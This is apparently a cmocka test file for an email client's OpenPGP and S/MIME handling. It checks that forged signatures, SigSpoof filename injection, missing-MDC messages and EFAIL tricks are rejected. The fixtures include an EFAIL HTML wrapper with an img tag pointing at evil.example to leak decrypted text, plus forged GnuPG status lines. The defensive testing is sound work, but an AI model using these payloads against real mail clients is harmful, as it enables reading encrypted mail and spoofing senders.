/* SPDX-License-Identifier: GPL-3.0-or-later */
/* SPDX-FileCopyrightText: the retinue authors */
/*
 * Signing, encrypting, opening, with keys made here in a GNUPGHOME of our own:
 * Ada's (sender, trusted), Grace's (recipient, trusted), Mallory's (in the key
 * ring, trusted by nobody). And the tricks of "Johnny, you are fired" (ACSAC
 * 2019: Mueller et al.) and EFAIL (USENIX Security 2018: Poddebniak et al.),
 * each of which must not be taken for what it claims to be.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <cmocka.h>
#include <gpgme.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "base/proc.h"
#include "mime/crypt.h"

static char home[] = "/tmp/retinue-crypt-XXXXXX";
static bool have_smime;

/* --- keys ------------------------------------------------------------------ */

static bool run(const char *in, const char *first, ...)
{
	struct strv argv CLEANUP(strv_release);
	struct str out CLEANUP(str_release) = STR_INIT;
	struct bytes b = {(unsigned char *)(uintptr_t)in, in ? strlen(in) : 0};
	struct err err;
	va_list ap;
	int status = -1;
	bool ok;

	strv_init(&argv);
	va_start(ap, first);
	for (const char *s = first; s; s = va_arg(ap, const char *))
		strv_add(&argv, s);
	va_end(ap);
	ok = proc_run(&argv, NULL, in ? &b : NULL, &out, 1 << 20, 60000,
		      &status, &err);
	if (!ok || status)
		print_message("# %s: %d %s\n", first, status,
			      ok ? out.s : err.text);
	return ok && status == 0;
}

static void put(const char *name, const char *text)
{
	char *path CLEANUP(mem_free_ptr) = xasprintf("%s/%s", home, name);
	FILE *f = fopen(path, "w");

	assert_non_null(f);
	fputs(text, f);
	fclose(f);
}

static void make_key(const char *uid, const char *trust)
{
	assert_true(run("", "gpg", "--batch", "--quiet", "--passphrase", "",
			"--quick-generate-key", uid, "ed25519", "sign", "0",
			NULL));
	{
		char *match = xasprintf("=%s", uid);
		struct strv argv CLEANUP(strv_release);
		struct str out = STR_INIT;
		int status;
		const char *fpr;
		char *line;

		strv_init(&argv);
		strv_split(&argv, "gpg\n--batch\n--with-colons\n--list-keys",
			   "\n");
		strv_add(&argv, match);
		assert_true(proc_run(&argv, NULL, NULL, &out, 1 << 20, 60000,
				     &status, NULL));
		fpr = strstr(out.s, "\nfpr:::::::::");
		assert_non_null(fpr);
		fpr += 13;
		line = xasprintf("%.40s", fpr);
		assert_true(run("", "gpg", "--batch", "--quiet", "--passphrase",
				"", "--quick-add-key", line, "cv25519", "encr",
				"0", NULL));
		mem_replace(&line, xasprintf("%.40s:%s:\n", fpr, trust));
		assert_true(run(line, "gpg", "--batch", "--quiet",
				"--import-ownertrust", NULL));
		free(line);
		free(match);
		str_release(&out);
	}
}

/* A certificate of its own making, trusted by name in trustlist.txt. */
static bool make_certificate(void)
{
	static const char request[] =
		"Key-Type: RSA\nKey-Length: 2048\nKey-Usage: sign, encrypt\n"
		"Serial: random\nName-DN: CN=Ada Byron,O=Example\n"
		"Name-Email: ada@example.org\nHash-Algo: SHA256\n"
		"Not-After: 2040-01-01\n";
	char *cert = xasprintf("%s/ada.pem", home);
	struct strv argv CLEANUP(strv_release);
	struct str out CLEANUP(str_release) = STR_INIT;
	bool ok;
	const char *fpr;
	int status;

	put("request", request);
	{
		char *req = xasprintf("%s/request", home);

		ok = run("", "gpgsm", "--batch", "--quiet", "--armor",
			 "--output", cert, "--generate-key", req, NULL);
		free(req);
	}
	ok = ok &&
	     run("", "gpgsm", "--batch", "--quiet", "--import", cert, NULL);
	free(cert);
	if (!ok)
		return false;
	strv_init(&argv);
	strv_split(&argv, "gpgsm --batch --with-colons --list-keys", " ");
	if (!proc_run(&argv, NULL, NULL, &out, 1 << 20, 60000, &status, NULL) ||
	    !(fpr = strstr(out.s, "fpr:::::::::")))
		return false;
	{
		char *line = xasprintf("%.40s S relax\n", fpr + 12);

		put("trustlist.txt", line);
		free(line);
	}
	return run("", "gpgconf", "--kill", "gpg-agent", NULL);
}

static int setup(void **state)
{
	(void)state;
	if (!mkdtemp(home))
		return -1;
	setenv("GNUPGHOME", home, 1);
	/* gpgsm asks for a passphrase for the new key: an empty one. */
	put("pinentry", "#!/bin/sh\necho OK\nwhile read -r l; do case $l in "
			"GETPIN*) echo 'D '; echo OK;; BYE) echo OK; exit;; "
			"*) echo OK;; esac; done\n");
	{
		char *pin = xasprintf("%s/pinentry", home);
		char *conf = xasprintf("pinentry-program %s\n", pin);

		chmod(pin, 0700);
		put("gpg-agent.conf", conf);
		free(conf);
		free(pin);
	}
	put("gpgsm.conf", "disable-crl-checks\ndisable-policy-checks\n");
	make_key("Ada Byron <ada@example.org>", "6");
	make_key("Grace Hopper <grace@example.org>", "6");
	make_key("Mallory <mallory@example.net>", "2");
	have_smime = make_certificate();
	return 0;
}

static int teardown(void **state)
{
	(void)state;
	(void)!run("", "gpgconf", "--kill", "all", NULL);
	return !run("", "rm", "-rf", home, NULL);
}

/* --- helpers --------------------------------------------------------------- */

#define HEADER                                                                 \
	"From: Ada Byron <ada@example.org>\r\n"                                \
	"To: Grace Hopper <grace@example.org>\r\n"                             \
	"Subject: the real subject\r\nMessage-ID: <1@example.org>\r\n"         \
	"MIME-Version: 1.0\r\n"
static const char plain[] =
	HEADER "Content-Type: text/plain; charset=us-ascii\r\n"
	       "Content-Transfer-Encoding: 7bit\r\n\r\n"
	       "The secret text.\r\nTwo lines.\r\n";

static struct mime_message *reading(const struct str *raw)
{
	struct mime_message *m;

	assert_true(mime_read(&m, raw->s, raw->len, NULL, NULL));
	return m;
}

static void seal(struct str *out, const char *raw, enum crypt_kind kind,
		 bool sign, bool encrypt)
{
	struct crypt_seal s = {.kind = kind, .sign = sign, .encrypt = encrypt};
	struct str in = STR_INIT;
	struct mime_message *m;
	struct err err = ERR_INIT;

	str_init(out);
	str_add(&in, raw);
	m = reading(&in);
	if (!crypt_seal(out, m, &s, &err))
		fail_msg("sealing: %s", err.text);
	mime_message_free(m);
	str_release(&in);
}

static bool opens(struct crypt_opened *o, const struct str *raw,
		  struct err *err)
{
	struct crypt_options options = {.may_ask = false};
	struct mime_message *m = reading(raw);
	bool ok = crypt_open(o, m, &options, err);

	mime_message_free(m);
	return ok;
}

static void expect(const struct str *raw, enum crypt_trust trust,
		   bool encrypted, const char *shown, const char *word)
{
	struct crypt_opened o;
	struct err err = ERR_INIT;

	if (!opens(&o, raw, &err))
		fail_msg("opening: %s", err.text);
	if (o.trust != trust || o.encrypted != encrypted)
		fail_msg("trust %d, encrypted %d: %s", o.trust, o.encrypted,
			 o.text);
	if (shown && !(o.inner.len &&
		       memmem(o.inner.p, o.inner.len, shown, strlen(shown))))
		fail_msg("not shown: %s", shown);
	if (word && !strstr(o.text, word))
		fail_msg("not said: %s in %s", word, o.text);
	crypt_opened_release(&o);
}

static char *replaced(const char *s, const char *what, const char *with)
{
	const char *at = strstr(s, what);

	if (!at)
		fail_msg("there is no \"%s\" in the message", what);
	return xasprintf("%.*s%s%s", (int)(at - s), s, with, at + strlen(what));
}

static void expect_text(const char *raw, enum crypt_trust trust,
			const char *word)
{
	struct str s = STR_INIT;

	str_add(&s, raw);
	expect(&s, trust, false, NULL, word);
	str_release(&s);
}

/* The part of a sealed message behind its own header. */
static const char *body_of(const char *raw)
{
	return strstr(raw, "\r\nContent-Type: multipart/") + 2;
}

/* --- round trips ----------------------------------------------------------- */

static void round_trip(enum crypt_kind kind)
{
	const char *word = crypt_kind_name(kind);
	struct str s;

	seal(&s, plain, kind, true, false);
	expect(&s, CRYPT_VALID, false, "The secret text.\r\nTwo lines.", word);
	str_release(&s);
	/* S/MIME needs a certificate of each recipient: only Ada has one. */
	if (kind == CRYPT_SMIME) {
		char *to_ada = replaced(plain, "Grace Hopper <grace@",
					"Ada Byron <ada@");

		seal(&s, to_ada, kind, true, true);
		free(to_ada);
	} else {
		seal(&s, plain, kind, true, true);
	}
	assert_null(strstr(s.s, "secret"));
	assert_null(strstr(s.s, "real subject"));
	expect(&s, CRYPT_VALID, true, "The secret text.", "Encrypted");
	expect(&s, CRYPT_VALID, true, "Subject: the real subject", NULL);
	str_release(&s);
}

static void test_openpgp(void **state)
{
	struct str s;

	(void)state;
	round_trip(CRYPT_OPENPGP);
	seal(&s, plain, CRYPT_OPENPGP, false, true);
	expect(&s, CRYPT_UNSIGNED, true, "The secret text.",
	       "not signed: it may be from anybody");
	str_release(&s);
}

static void test_smime(void **state)
{
	(void)state;
	if (!have_smime)
		fail_msg("gpgsm could not make a certificate");
	round_trip(CRYPT_SMIME);
}

static void test_line_ends(void **state)
{
	struct str s, lf = STR_INIT;

	(void)state;
	/* Stored with bare line feeds, as a Maildir does: still right. */
	seal(&s, plain, CRYPT_OPENPGP, true, false);
	for (size_t i = 0; i < s.len; i++)
		if (s.s[i] != '\r')
			str_add_char(&lf, s.s[i]);
	expect(&lf, CRYPT_VALID, false, NULL, NULL);
	str_release(&s);
	str_release(&lf);
}

static void test_refusals(void **state)
{
	struct crypt_seal s = {.kind = CRYPT_OPENPGP, .encrypt = true};
	struct str in CLEANUP(str_release) = STR_INIT;
	struct str out CLEANUP(str_release) = STR_INIT;
	struct err err = ERR_INIT;
	struct mime_message *m;
	char *bcc = replaced(
		plain, "Subject:", "Bcc: mallory@example.net\r\nSubject:");
	char *nokey = replaced(plain, "grace@example.org", "x@nokey.example");
	char *mallory =
		replaced(plain, "grace@example.org", "mallory@example.net");
	const struct {
		const char *raw, *word;
	} rows[] = {{bcc, "Bcc"},
		    {nokey, "no OpenPGP key for x@nokey.example"},
		    {mallory, "nobody vouches"}};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		str_clear(&in);
		str_add(&in, rows[i].raw);
		m = reading(&in);
		assert_false(crypt_seal(&out, m, &s, &err));
		if (!strstr(err.text, rows[i].word))
			fail_msg("%s", err.text);
		mime_message_free(m);
	}
	assert_int_equal(out.len, 0);
	free(bcc);
	free(nokey);
	free(mallory);
}

/* --- states ---------------------------------------------------------------- */

static void test_states(void **state)
{
	struct str s;
	char *t;

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, true, false);
	t = replaced(s.s, "The secret text", "The forged text");
	expect_text(t, CRYPT_BAD, "changed");
	free(t);
	/* Another From over a right signature: the signer is named. */
	t = replaced(s.s, "From: Ada Byron <ada@example.org>",
		     "From: Ada Byron <boss@example.org>");
	expect_text(t, CRYPT_OTHER_SIGNER, "NOT signed by the sender");
	free(t);
	/* The address in the display name is not the address. */
	t = replaced(s.s, "From: Ada Byron <ada@example.org>",
		     "From: \"ada@example.org\" <mallory@example.net>");
	expect_text(t, CRYPT_OTHER_SIGNER, "From says mallory@example.net");
	free(t);
	/* Two From fields, two addresses: nobody knows which is shown where. */
	t = replaced(s.s, "From: ", "From: boss@example.org\r\nFrom: ");
	expect_text(t, CRYPT_OTHER_SIGNER, "several");
	free(t);
	t = replaced(s.s, "From: ", "From: boss@example.org, ");
	expect_text(t, CRYPT_OTHER_SIGNER, "several");
	free(t);
	str_release(&s);
	/* Right, but nobody vouches for Mallory's key. */
	t = replaced(plain, "Ada Byron <ada@example.org>",
		     "mallory@example.net");
	seal(&s, t, CRYPT_OPENPGP, true, false);
	expect(&s, CRYPT_UNTRUSTED, false, NULL, "nobody vouches");
	free(t);
	str_release(&s);
}

static void test_unknown_key(void **state)
{
	struct str s;
	char *empty = xasprintf("%s/other", home);

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, true, false);
	assert_int_equal(mkdir(empty, 0700), 0);
	setenv("GNUPGHOME", empty, 1);
	expect(&s, CRYPT_UNKNOWN_KEY, false, NULL, "cannot be checked");
	str_release(&s);
	setenv("GNUPGHOME", home, 1);
	seal(&s, plain, CRYPT_OPENPGP, false, true);
	setenv("GNUPGHOME", empty, 1);
	{
		struct crypt_opened o;
		struct err err = ERR_INIT;

		assert_false(opens(&o, &s, &err));
		assert_int_equal(err.kind, ERR_DENIED);
	}
	(void)!run("", "gpgconf", "--kill", "all", NULL);
	setenv("GNUPGHOME", home, 1);
	str_release(&s);
	free(empty);
}

/* --- tricks ---------------------------------------------------------------- */

#define MIXED HEADER "Content-Type: multipart/mixed; boundary=\"m\"\r\n\r\n"

/* M1-M4: a signed part beside or below others is not a signed message. */
static void test_partly_signed(void **state)
{
	struct str s;
	char *t;

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, true, false);
	t = xasprintf(MIXED "--m\r\nContent-Type: text/plain\r\n\r\n"
			    "Pay Mallory.\r\n--m\r\n%s\r\n--m--\r\n",
		      body_of(s.s));
	expect_text(t, CRYPT_UNSIGNED, "Only a part");
	free(t);
	/* The signed part first, hidden by an HTML part. */
	t = xasprintf(HEADER "Content-Type: multipart/related; "
			     "boundary=\"m\"\r\n\r\n--m\r\n%s\r\n--m\r\n"
			     "Content-Type: text/html\r\n\r\n<p>Pay</p>\r\n"
			     "--m--\r\n",
		      body_of(s.s));
	expect_text(t, CRYPT_UNSIGNED, "Only a part");
	free(t);
	/* Inside a forwarded message: that one's business. */
	t = xasprintf(MIXED "--m\r\nContent-Type: text/plain\r\n\r\nx\r\n"
			    "--m\r\nContent-Type: message/rfc822\r\n\r\n%s"
			    "\r\n--m--\r\n",
		      s.s);
	expect_text(t, CRYPT_UNSIGNED, NULL);
	free(t);
	str_release(&s);
}

/* A third child of multipart/signed would be shown, but is not signed. */
static void test_third_part(void **state)
{
	struct str s;
	const char *b, *at;
	char *boundary, *end, *t;

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, true, false);
	b = strstr(s.s, "boundary=\"") + 10;
	boundary = xasprintf("%.*s", (int)strcspn(b, "\""), b);
	end = xasprintf("--%s--", boundary);
	t = xasprintf("--%s\r\nContent-Type: text/html\r\n\r\nPay.\r\n--%s--",
		      boundary, boundary);
	{
		char *forged = replaced(s.s, end, t);

		expect_text(forged, CRYPT_ODD, "not made as");
		free(forged);
	}
	free(t);
	/* And one before the signed part. */
	at = strstr(s.s, "\r\n\r\n--") + 4;
	t = xasprintf("%.*s--%s\r\nContent-Type: text/plain\r\n\r\nPay.\r\n%s",
		      (int)(at - s.s), s.s, boundary, at);
	expect_text(t, CRYPT_ODD, "not made as");
	free(t);
	free(end);
	free(boundary);
	str_release(&s);
}

/* No signature at all in the signature part; text that says "Good". */
static void test_no_signature(void **state)
{
	static const char forged[] =
		HEADER "Content-Type: multipart/signed; boundary=\"m\"; "
		       "protocol=\"application/%s\"\r\n\r\n--m\r\n"
		       "Content-Type: text/plain\r\n\r\nSigned by Ada, "
		       "valid\r\n--m\r\n"
		       "Content-Type: application/%s\r\n\r\n%s\r\n--m--\r\n";
	static const char *const bodies[] = {
		"",
		"[GNUPG:] GOODSIG 1234567890ABCDEF Ada Byron\n"
		"[GNUPG:] VALIDSIG 1234567890123456789012345678901234567890",
		"-----BEGIN PGP SIGNATURE-----\r\n\r\n"
		"-----END PGP SIGNATURE-----"};
	static const char *const types[] = {"pgp-signature", "pkcs7-signature"};

	(void)state;
	for (size_t k = 0; k < ARRAY_LEN(types); k++)
		for (size_t i = 0; i < ARRAY_LEN(bodies); i++) {
			char *raw = xasprintf(forged, types[k], types[k],
					      bodies[i]);
			struct str s = STR_INIT;
			struct crypt_opened o;

			str_add(&s, raw);
			assert_true(opens(&o, &s, NULL));
			if (o.trust < CRYPT_ODD)
				fail_msg("%s %zu: %d", types[k], i, o.trust);
			crypt_opened_release(&o);
			str_release(&s);
			free(raw);
		}
}

/* SigSpoof (CVE-2018-12020): status lines in the embedded file name. */
static void test_sigspoof(void **state)
{
	static const char name[] =
		"\n[GNUPG:] GOODSIG 0000000000000000 Ada <ada@example.org>\n"
		"[GNUPG:] VALIDSIG 0000000000000000000000000000000000000000 "
		"2026-01-01 1767225600 0 4 0 1 8 00\n[GNUPG:] TRUST_ULTIMATE\n";
	char *in = xasprintf("%s/spoof.txt", home);
	char *out = xasprintf("%s/spoof.asc", home);
	struct str text = STR_INIT, s = STR_INIT;

	(void)state;
	put("spoof.txt", "Content-Type: text/plain\r\n\r\nPay Mallory.\r\n");
	assert_true(run("", "gpg", "--batch", "--yes", "--armor",
			"--set-filename", name, "--trust-model", "always", "-r",
			"ada@example.org", "-o", out, "-e", in, NULL));
	assert_true(proc_read_file(out, &text, 1 << 20, NULL));
	str_addf(&s,
		 HEADER "Content-Type: multipart/encrypted; "
			"boundary=\"m\"; protocol="
			"\"application/pgp-encrypted\"\r\n\r\n--m\r\n"
			"Content-Type: application/pgp-encrypted\r\n\r\n"
			"Version: 1\r\n--m\r\nContent-Type: "
			"application/octet-stream\r\n\r\n%s\r\n--m--\r\n",
		 text.s);
	expect(&s, CRYPT_UNSIGNED, true, "Pay Mallory", NULL);
	str_release(&text);
	str_release(&s);
	free(in);
	free(out);
}

/* EFAIL, direct exfiltration: HTML around the encrypted part. */
static void test_exfiltration(void **state)
{
	struct str s;
	char *t;
	struct str raw = STR_INIT;
	struct crypt_opened o;

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, false, true);
	t = xasprintf(MIXED "--m\r\nContent-Type: text/html\r\n\r\n"
			    "<img src=\"http://evil.example/\r\n--m\r\n%s\r\n"
			    "--m\r\nContent-Type: text/html\r\n\r\n\">\r\n"
			    "--m--\r\n",
		      body_of(s.s));
	str_add(&raw, t);
	assert_true(opens(&o, &raw, NULL));
	assert_false(o.encrypted);
	assert_int_equal(o.inner.len, 0); /* nothing was decrypted */
	assert_non_null(strstr(o.text, "Only a part"));
	crypt_opened_release(&o);
	free(t);
	str_release(&raw);
	str_release(&s);
}

/* Exchange makes multipart/mixed of multipart/encrypted: still opened, but not
 * when anything else stands in it. */
static void test_exchange_mixed(void **state)
{
	struct str s;
	struct crypt_opened o;
	const char *b;
	char *t, *part;

	(void)state;
	seal(&s, plain, CRYPT_OPENPGP, true, true);
	t = replaced(s.s, "multipart/encrypted", "multipart/mixed");
	str_clear(&s);
	str_add(&s, t);
	expect(&s, CRYPT_VALID, true, "The secret text.", NULL);
	b = strstr(t, "boundary=\"") + 10;
	part = xasprintf("\r\n\r\n--%.*s\r\nContent-Type: text/html\r\n\r\n"
			 "<img src=\"http://evil.example/\r\n--",
			 (int)strcspn(b, "\""), b);
	str_clear(&s);
	b = replaced(t, "\r\n\r\n--", part);
	str_add(&s, b);
	free((char *)(uintptr_t)b);
	assert_true(opens(&o, &s, NULL));
	assert_false(o.encrypted);
	crypt_opened_release(&o);
	free(part);
	free(t);
	str_release(&s);
}

/* No protection against changes (no MDC): the plain text is not shown. */
static void test_no_mdc(void **state)
{
	char *in = xasprintf("%s/nomdc.txt", home);
	char *out = xasprintf("%s/nomdc.asc", home);
	struct str text = STR_INIT, s = STR_INIT;
	struct crypt_opened o;
	struct err err = ERR_INIT;

	(void)state;
	put("nomdc.txt", "Content-Type: text/plain\r\n\r\nsecret\r\n");
	assert_true(run("", "gpg", "--batch", "--yes", "--armor",
			"--trust-model", "always", "--rfc2440", "--cipher-algo",
			"CAST5", "-r", "ada@example.org", "-o", out, "-e", in,
			NULL));
	assert_true(proc_read_file(out, &text, 1 << 20, NULL));
	str_addf(&s,
		 HEADER "Content-Type: multipart/encrypted; "
			"boundary=\"m\"\r\n\r\n--m\r\n"
			"Content-Type: application/pgp-encrypted\r\n\r\n"
			"Version: 1\r\n--m\r\nContent-Type: "
			"application/octet-stream\r\n\r\n%s\r\n--m--\r\n",
		 text.s);
	if (opens(&o, &s, &err)) {
		assert_null(memmem(o.inner.p, o.inner.len, "secret", 6));
		fail_msg("opened without protection: %s", o.text);
	}
	str_release(&text);
	str_release(&s);
	free(in);
	free(out);
}

/* A signature that carries other content than the part it stands beside. */
static void test_embedded_content(void **state)
{
	char *in = xasprintf("%s/other.txt", home);
	char *out = xasprintf("%s/other.p7m", home);
	struct str der = STR_INIT, s = STR_INIT;
	struct crypt_opened o;

	(void)state;
	if (!have_smime)
		fail_msg("gpgsm could not make a certificate");
	put("other.txt",
	    "Content-Type: text/plain\r\n\r\nSomething harmless\r\n");
	assert_true(run("", "gpgsm", "--batch", "--yes", "--base64", "-o", out,
			"--sign", in, NULL));
	assert_true(proc_read_file(out, &der, 1 << 20, NULL));
	str_addf(&s,
		 HEADER "Content-Type: multipart/signed; boundary=\"m\"; "
			"protocol=\"application/pkcs7-signature\"\r\n\r\n"
			"--m\r\nContent-Type: text/plain\r\n\r\n"
			"Pay Mallory\r\n--m\r\nContent-Type: "
			"application/pkcs7-signature\r\n"
			"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n"
			"--m--\r\n",
		 der.s);
	assert_true(opens(&o, &s, NULL));
	if (o.trust < CRYPT_UNKNOWN_KEY)
		fail_msg("taken for signed: %d %s", o.trust, o.text);
	crypt_opened_release(&o);
	/* By itself, as it is meant: what is signed is what is shown. */
	str_clear(&s);
	str_addf(&s,
		 HEADER "Content-Type: application/pkcs7-mime; "
			"smime-type=signed-data\r\n"
			"Content-Transfer-Encoding: base64\r\n\r\n%s\r\n",
		 der.s);
	expect(&s, CRYPT_VALID, false, "Something harmless", NULL);
	str_release(&der);
	str_release(&s);
	free(in);
	free(out);
}

/* Inline armour in a text: some of the text is signed at best. */
static void test_inline(void **state)
{
	(void)state;
	expect_text(HEADER "Content-Type: text/plain\r\n\r\nPay.\r\n"
			   "-----BEGIN PGP SIGNED MESSAGE-----\r\n"
			   "Hash: SHA512\r\n\r\nhello\r\n",
		    CRYPT_UNSIGNED, "Only a part of the text");
}

/* The header inside the seal does not replace the sender. */
static void test_inner_from(void **state)
{
	char *in = xasprintf("%s/from.txt", home);
	char *out = xasprintf("%s/from.asc", home);
	struct str text = STR_INIT, s = STR_INIT;
	struct crypt_opened o;

	(void)state;
	put("from.txt", "From: boss@example.org\r\nTo: x@example.org\r\n"
			"Subject: inner\r\nContent-Type: text/plain; "
			"protected-headers=\"v1\"\r\n\r\nsecret\r\n");
	assert_true(run("", "gpg", "--batch", "--yes", "--armor",
			"--trust-model", "always", "-r", "ada@example.org",
			"-o", out, "-e", in, NULL));
	assert_true(proc_read_file(out, &text, 1 << 20, NULL));
	str_addf(&s,
		 HEADER "Content-Type: multipart/encrypted; "
			"boundary=\"m\"\r\n\r\n--m\r\n"
			"Content-Type: application/pgp-encrypted\r\n\r\n"
			"Version: 1\r\n--m\r\nContent-Type: "
			"application/octet-stream\r\n\r\n%s\r\n--m--\r\n",
		 text.s);
	assert_true(opens(&o, &s, NULL));
	assert_null(memmem(o.inner.p, o.inner.len, "boss@", 5));
	assert_non_null(memmem(o.inner.p, o.inner.len, "Subject: inner", 14));
	assert_null(memmem(o.inner.p, o.inner.len, "real subject", 12));
	crypt_opened_release(&o);
	str_release(&text);
	str_release(&s);
	free(in);
	free(out);
}

static void test_looks(void **state)
{
	static const struct {
		const char *type;
		enum crypt_look look;
	} rows[] = {
		{"text/plain", CRYPT_LOOK_PLAIN},
		{"multipart/signed; boundary=x", CRYPT_LOOK_SIGNED},
		{"multipart/encrypted; boundary=x", CRYPT_LOOK_ENCRYPTED},
		{"application/pkcs7-mime", CRYPT_LOOK_SMIME},
		{"application/x-pkcs7-mime; smime-type=signed-data",
		 CRYPT_LOOK_SMIME},
		{"multipart/mixed; boundary=x", CRYPT_LOOK_PLAIN},
	};

	(void)state;
	for (size_t i = 0; i < ARRAY_LEN(rows); i++) {
		struct str s = STR_INIT;
		struct mime_message *m;

		str_addf(&s, "Content-Type: %s\r\n\r\n--x\r\n\r\nhi\r\n--x--",
			 rows[i].type);
		m = reading(&s);
		assert_int_equal(crypt_look(m), rows[i].look);
		mime_message_free(m);
		str_release(&s);
	}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_looks),
		cmocka_unit_test(test_openpgp),
		cmocka_unit_test(test_smime),
		cmocka_unit_test(test_line_ends),
		cmocka_unit_test(test_refusals),
		cmocka_unit_test(test_states),
		cmocka_unit_test(test_unknown_key),
		cmocka_unit_test(test_partly_signed),
		cmocka_unit_test(test_third_part),
		cmocka_unit_test(test_no_signature),
		cmocka_unit_test(test_sigspoof),
		cmocka_unit_test(test_exfiltration),
		cmocka_unit_test(test_exchange_mixed),
		cmocka_unit_test(test_no_mdc),
		cmocka_unit_test(test_embedded_content),
		cmocka_unit_test(test_inline),
		cmocka_unit_test(test_inner_from),
	};

	cmocka_set_message_output(CM_OUTPUT_TAP);
	return cmocka_run_group_tests(tests, setup, teardown);
}
